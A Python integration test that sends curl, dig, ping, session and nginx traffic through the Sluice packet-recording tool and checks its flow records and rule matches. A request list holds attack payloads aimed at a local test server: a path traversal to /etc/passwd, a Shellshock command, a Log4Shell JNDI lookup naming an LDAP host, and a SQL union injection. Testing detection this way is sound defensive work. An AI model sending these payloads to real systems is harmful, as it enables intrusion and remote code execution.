#!/usr/bin/env python3
"""Real clients and servers on a road that Sluice listens at: curl, dig, ping and a session that stays open notice nothing of
it, whatever begins and ends it, and every packet of theirs is in the records. Needs root; prints TAP.

usage: test_clients.py SLUICE MODE
"""
import collections
import hashlib
import os
import random
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

from program import HERE, TUPLE, Program, difference, expected, normal, why_no_mode
from road import CLIENT, SERVER, SERVER6, Dump, Road
from servers import GREETING, HTTP, LINES, content
from wire import until

from frames import read_pcap    # beside the golden tests: program.py knows where
from harness import ROOT, Tap

EXAMPLE = os.path.join(ROOT, "conf", "rules", "example.hs")
WEB = f"http://{SERVER}:{HTTP}"
# (what, curl's arguments, status, rules that the request has in it, and the response).
REQUESTS = [
    ("a page", [f"{WEB}/content/100"], 200, [1, 3], [2]),
    ("a page that fails", [f"{WEB}/broken"], 503, [1, 3], [2, 4]),
    ("only the head", ["-I", f"{WEB}/content/5000"], 200, [1, 3], [2]),
    ("a log-in by form", ["-d", "user=alice&password=secret", f"{WEB}/login"], 200, [1, 3, 18, 26], [2]),
    ("a log-in by HTTP", ["-u", "alice:secret", f"{WEB}/content/1"], 200, [1, 3, 16], [2]),
    ("a way out of the folder", ["--path-as-is", f"{WEB}/../../etc/passwd"], 404, [1, 3, 19], [2]),
    ("a command in the browser's name", ["-A", "() { :;}; /bin/sh -c id", f"{WEB}/"], 404, [1, 20, 23], [2]),
    ("a lookup in a header", ["-H", "X-Api: ${jndi:ldap://10.0.0.1/a}", f"{WEB}/"], 404, [1, 3, 21], [2]),
    ("SQL in a query", [f"{WEB}/?q=1+union+select+2"], 404, [1, 3, 22], [2]),
]
# (dig's arguments, what it must print, rules in the query, in the answer).
QUESTIONS = [
    (["a.example", "A", "+short"], SERVER, [5], []),
    (["a.example", "AAAA", "+short"], SERVER6, [6], []),
    (["a.example", "TXT", "+tcp", "+short"], "t" * 255, [], []),
    (["a.nowhere", "A"], "NXDOMAIN", [5], [7]),
]


class Session:
    """A connection over which lines go and come back, in order and whole."""

    def __init__(self, road):
        self.socket = road.connect(SERVER, LINES)
        self.socket.settimeout(10)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.port = self.socket.getsockname()[1]
        self.lines = self.socket.makefile("rb")
        self.said, self.fault, self.longest = 0, None, 0.0
        self.stop, self.thread = threading.Event(), None

    def greet(self):
        self.socket.sendall(b"SSH-2.0-client\r\n")
        if (self.lines.readline(), self.lines.readline()) != (GREETING, b"SSH-2.0-client\r\n"):
            self.fault = "no greeting"

    def say(self, n):
        try:
            for _ in range(n):
                line = b"line %d\n" % self.said
                before = time.monotonic()
                self.socket.sendall(line)
                back = self.lines.readline()
                self.longest = max(self.longest, time.monotonic() - before)
                if back != line:
                    self.fault = f"{line!r} came back as {back!r}"
                    return
                self.said += 1
        except OSError as e:
            self.fault = f"line {self.said}: {e}"

    def _chat(self):
        while not self.stop.is_set() and not self.fault:
            self.say(1)
            self.stop.wait(0.003)

    def begin_chat(self):
        self.thread = threading.Thread(target=self._chat, daemon=True)
        self.thread.start()

    def end_chat(self):
        self.stop.set()
        self.thread.join()


def flow_counts(paths):
    """{(src, dst, sport, dport, proto): (packets, octets on the wire)}, read by hand: neither VLAN nor extension headers here.
    Later fragments are none of TCP's and UDP's here."""
    counts = collections.Counter()
    for path in paths:
        for _, octets, wire in read_pcap(path):
            kind, = struct.unpack("!H", octets[12:14])
            if kind == 0x0800:
                proto, at = octets[23], 14 + (octets[14] & 15) * 4
                src, dst = socket.inet_ntop(socket.AF_INET, octets[26:30]), socket.inet_ntop(socket.AF_INET, octets[30:34])
            elif kind == 0x86DD:
                proto, at = octets[20], 54
                src, dst = socket.inet_ntop(socket.AF_INET6, octets[22:38]), socket.inet_ntop(socket.AF_INET6, octets[38:54])
            else:
                continue
            ports = struct.unpack("!HH", octets[at:at + 4]) if proto in (6, 17) else (0, 0)
            counts[src, dst, *ports, proto, "packets"] += 1
            counts[src, dst, *ports, proto, "octets"] += wire
    return counts


class Suite:
    def __init__(self, sluice, folder, mode, tap):
        self.sluice, self.folder, self.mode, self.tap = sluice, folder, mode, tap
        self.rules = EXAMPLE if mode == "observe" else None
        self.port = 20000

    def program(self, road, **sets):
        return Program(self.sluice, self.folder, road, self.mode, TUPLE, self.rules, device=f"{road.far} {road.out}", **sets)

    def listen(self, road):
        road.start(2, [sys.executable, os.path.join(HERE, "servers.py"), SERVER, SERVER6])
        return road.listens(HTTP) and road.listens(LINES)

    # ---- clients; each returns what went wrong ----

    def curl(self, road, args, want, status=200):
        """`want`: what must come back; None: anything. No faster than a reader can take that has to wait for its processor now and
        then: what happens beyond that is for test_load.py."""
        self.port += 1
        out = os.path.join(self.folder, f"curl-{self.port}")
        done = road.run(["curl", "-sS", "-m", "30", "--limit-rate", "20M", "-g", "--local-port", str(self.port), "-o", out, "-w", "%{http_code}", *args])
        got = b""
        if os.path.exists(out):
            with open(out, "rb") as f:
                got = f.read()
            os.unlink(out)
        if done.returncode or done.stdout != b"%d" % status:
            return [f"curl {' '.join(args)}: exit {done.returncode}, status {done.stdout.decode()}: {done.stderr.decode().strip()}"]
        if want is not None and hashlib.sha256(got).digest() != hashlib.sha256(want).digest():
            return [f"curl {' '.join(args)}: {len(got)} octets, {len(want)} sent, not the same"]
        return []

    def transfers(self, road):
        """Downloads by IPv4 and IPv6, and an upload."""
        faults = []
        for address in (SERVER, f"[{SERVER6}]"):
            for octets in (1, 1448, 200000, 3 << 20):
                faults += self.curl(road, [f"http://{address}:{HTTP}/content/{octets}"], content(str(octets), octets))
        path = os.path.join(self.folder, "upload")
        octets = content("upload", 2 << 20)
        with open(path, "wb") as f:
            f.write(octets)
        faults += self.curl(road, ["-H", "Expect:", "--data-binary", f"@{path}", f"{WEB}/upload"], hashlib.sha256(octets).hexdigest().encode())
        return faults

    def dig(self, road, args, want):
        self.port += 1
        done = road.run(["dig", f"@{SERVER}", "-b", f"{CLIENT}#{self.port}", "+nocookie", "+tries=1", "+time=3", *args])
        return [] if done.returncode == 0 and want in done.stdout.decode() else [f"dig {' '.join(args)}: {done.stdout.decode()}"]

    # ---- everything is in the records ----

    def seen(self, what, road, session, **sets):
        """All clients while a run listens, and nothing at its edges: the records must be what two witnesses and the
        interfaces' own counters say."""
        faults, events = [], {}
        silent = road.quiet()
        dumps = [Dump(road, end, name, os.path.join(self.folder, f"dump{end}.pcap")) for end, name in ((0, road.near), (2, road.there))]
        witnessed = silent and all(dump.ready() for dump in dumps)
        before = road.received()
        live = self.program(road, **sets)
        attached = live.attached()
        # ---- what happens ----
        if not session.said:
            session.greet()
            events[6, session.port] = ([12], [12])
        session.say(200)
        faults += [session.fault] if session.fault else []
        faults += self.transfers(road)
        for name, args, status, asked, answered in REQUESTS:
            faults += [f"{name}: {fault}" for fault in self.curl(road, args, None, status)]
            events[6, self.port] = (asked, answered)
        for args, want, asked, answered in QUESTIONS:
            faults += self.dig(road, args, want)
            events[17, self.port] = (asked, answered)
        pings = [road.run(["ping", "-q", "-i", "0.01", *args]).stdout.decode()
                 for args in (["-c", "50", SERVER], ["-c", "50", SERVER6], ["-c", "10", "-s", "4000", SERVER])]
        # ---- and is over ----
        silent = road.quiet()
        status = live.finish()
        came = road.received() - before
        notes = [note for dump in dumps for note in dump.finish()]
        paths = [dump.path for dump in dumps]
        self.tap.line(attached and not faults, f"{what}: clients get what they ask for, whole", faults[:10] + live.why())
        self.tap.line(all(" 0% packet loss" in text for text in pings), f"{what}: ping loses nothing, large and in fragments too", pings)
        ledger, lost = live.ledger(), road.lost()
        # What an interface upstream gave up on a busy machine never came; TCP sends it again.
        self.tap.line(witnessed and silent and status == 0 and not live.balances() and came > 0 and not ledger.get("missed")
                      and ledger.get("received") == came,
                      f"{what}: as many frames are received as the interfaces count, and the books balance",
                      live.balances() + [f"{came} came, {lost} lost by the interfaces, silent {silent}"] + live.why())
        self.count(what, live, paths, notes)
        want = expected(self.sluice, self.folder, paths, TUPLE, self.rules)
        notes += difference(want, normal(live.lines()))
        self.tap.line(bool(want and not notes), f"{what}: the records are those of what tcpdump recorded", notes + live.why())
        if self.rules:
            self.match(what, live, events)

    def count(self, what, live, paths, notes):
        want, got = flow_counts(paths), collections.Counter()
        for r in live.records():
            key = (r["src_ip"], r["dest_ip"], r["src_port"], r["dest_port"], r["proto"])
            got[*key, "packets"] += r["packets"]
            got[*key, "octets"] += r["frame_bytes"]
        wrong = [f"{key}: {want[key]}, in the records {got[key]}" for key in sorted(set(want) | set(got), key=str) if want[key] != got[key]]
        one_way = [key for key in got if got.get((key[1], key[0], key[3], key[2], *key[4:])) is None]
        self.tap.line(bool(want and not wrong and not one_way and not notes), f"{what}: both directions of each conversation have all their packets",
                      wrong[:10] + [f"one direction only: {key}" for key in one_way] + notes)

    def match(self, what, live, events):
        """A rule counts once for a packet, and each of these is in one packet of its conversation."""
        got = collections.Counter()
        for r in live.records():
            got[r["proto"], r["src_port"], "asked"] += r["matches"]
            got[r["proto"], r["dest_port"], "answered"] += r["matches"]
        wrong = []
        for (proto, port), rules in events.items():
            for way, want in zip(("asked", "answered"), rules):
                if got[proto, port, way] != len(want):
                    wrong.append(f"{way} from or to port {port}: {got[proto, port, way]} matches, the rules {want} were to")
        self.tap.line(not wrong, f"{what}: each conversation has the matches that the example rules should give", wrong + live.why())

    # ---- whatever begins and ends ----

    def disturbed(self, road, session):
        """Runs come and go while the clients go on."""
        seed = random.randrange(1 << 32)
        chance, rounds, faults = random.Random(seed), 0, []
        resets, again = road.tcp("EstabResets"), road.tcp("RetransSegs")
        done = threading.Event()
        fetched = [0]

        def fetch():
            try:
                while not done.is_set():
                    faults.extend(self.transfers(road))
                    fetched[0] += 1
            except (OSError, subprocess.SubprocessError) as e:
                faults.append(str(e))
        fetcher = threading.Thread(target=fetch, daemon=True)
        with open(os.path.join(self.folder, "ping"), "w") as said:
            ping = road.start(0, ["ping", "-q", "-i", "0.01", SERVER], stdout=said)
        session.begin_chat()
        fetcher.start()
        notes = [f"seed {seed}"]
        for i in range(16):
            live = self.program(road)
            number = (signal.SIGINT, signal.SIGTERM, signal.SIGKILL, signal.SIGKILL)[i % 4]
            # The last of four while it is being opened.
            if i % 4 != 3 and not live.attached():
                notes += [f"round {i}: not attached"] + live.why()
                break
            time.sleep(chance.random() * (0.1 if i % 4 == 3 else 0.4))
            status = live.end(number)
            gone = until(lambda: road.program() is None, 5)
            if not gone or (i % 4 < 2 and status != 0):
                notes += [f"round {i}: exit status {status}, gone {gone}"] + live.why()
                break
            rounds += 1
        done.set()
        fetcher.join()
        session.end_chat()
        ping.send_signal(signal.SIGINT)
        ping.wait(5)
        with open(os.path.join(self.folder, "ping")) as f:
            pinged = f.read()
        resets, again = road.tcp("EstabResets") - resets, road.tcp("RetransSegs") - again
        notes += [f"{session.said} lines, the slowest took {session.longest:.3f} s", f"{fetched[0]} times all transfers",
                  f"{resets} connections reset, {again} segments sent again, {road.lost()} frames lost by the interfaces"]
        self.tap.line(rounds == 16 and road.program() is None, "sixteen runs begin, and end or are killed, while clients are busy", notes)
        self.tap.line(fetched[0] > 0 and not faults and not resets, "every transfer of that time is whole, none is reset", faults[:10] + notes)
        self.tap.line(not session.fault and session.said > 500, "a session stays open all the time, each line comes back", [str(session.fault)] + notes)
        self.tap.line(" 0% packet loss" in pinged, "ping loses nothing all the time", [pinged] + notes)

    # ---- a web server of the larger kind ----

    def nginx(self, road):
        fact = "downloads from nginx are whole, and all of their packets are in the records"
        if not shutil.which("nginx"):
            return self.tap.skip(fact, "nginx is not there (Debian: nginx-light)")
        folder = os.path.join(self.folder, "nginx")
        os.mkdir(folder)
        octets = os.urandom(6 << 20)
        with open(os.path.join(folder, "blob"), "wb") as f:
            f.write(octets)
        with open(os.path.join(folder, "conf"), "w") as f:
            f.write(f"daemon off; master_process off; pid {folder}/pid; error_log {folder}/log;\nevents {{ }}\n"
                    f"http {{ access_log off; sendfile on; client_body_temp_path {folder}/b; proxy_temp_path {folder}/p;\n"
                    f"fastcgi_temp_path {folder}/f; uwsgi_temp_path {folder}/u; scgi_temp_path {folder}/s;\n"
                    f"server {{ listen {SERVER}:8081; root {folder}; }} }}\n")
        with open(os.path.join(folder, "said"), "w") as said:
            road.start(2, ["nginx", "-c", os.path.join(folder, "conf"), "-e", os.path.join(folder, "log")], stdout=said, stderr=said)
        faults = [] if road.listens(8081) else ["nginx does not listen"]
        road.quiet()
        before = road.received()
        live = self.program(road)
        attached = live.attached()
        for _ in range(3):
            faults += self.curl(road, [f"http://{SERVER}:8081/blob"], octets)
        road.quiet()
        status = live.finish()
        came, ledger = road.received() - before, live.ledger()
        flows = [r for r in live.records() if 8081 in (r["src_port"], r["dest_port"])]
        faults += live.balances()
        self.tap.line(attached and status == 0 and not faults and ledger.get("received") == came and not ledger["missed"]
                      and len(flows) == 6 and sum(r["bytes"] for r in flows if r["src_port"] == 8081) > 3 * len(octets),
                      fact, faults + [f"{came} came, flows {flows}"] + live.why())


def main():
    if len(sys.argv) != 3 or sys.argv[2] not in ("observe", "kernel"):
        sys.exit(__doc__)
    sluice, mode = sys.argv[1:]
    missing = [tool for tool in ("curl", "dig", "ping", "tcpdump", "ss") if not shutil.which(tool)]
    if why := why_no_mode(sluice, mode) or (missing and f"needs {' '.join(missing)} (Debian: curl bind9-dnsutils iputils-ping tcpdump iproute2)"):
        print(f"1..0 # SKIP {why}")
        return
    tap = Tap()
    with tempfile.TemporaryDirectory(prefix="sluice-clients-") as folder, Road() as road:
        suite = Suite(os.path.realpath(sluice), folder, mode, tap)
        if not suite.listen(road):
            tap.line(False, "the servers listen")
            tap.end()
        session = Session(road)
        suite.seen("one worker", road, session)
        suite.seen("two workers", road, session, workers=2)
        suite.nginx(road)
        suite.disturbed(road, session)
    tap.end()


if __name__ == "__main__":
    main()
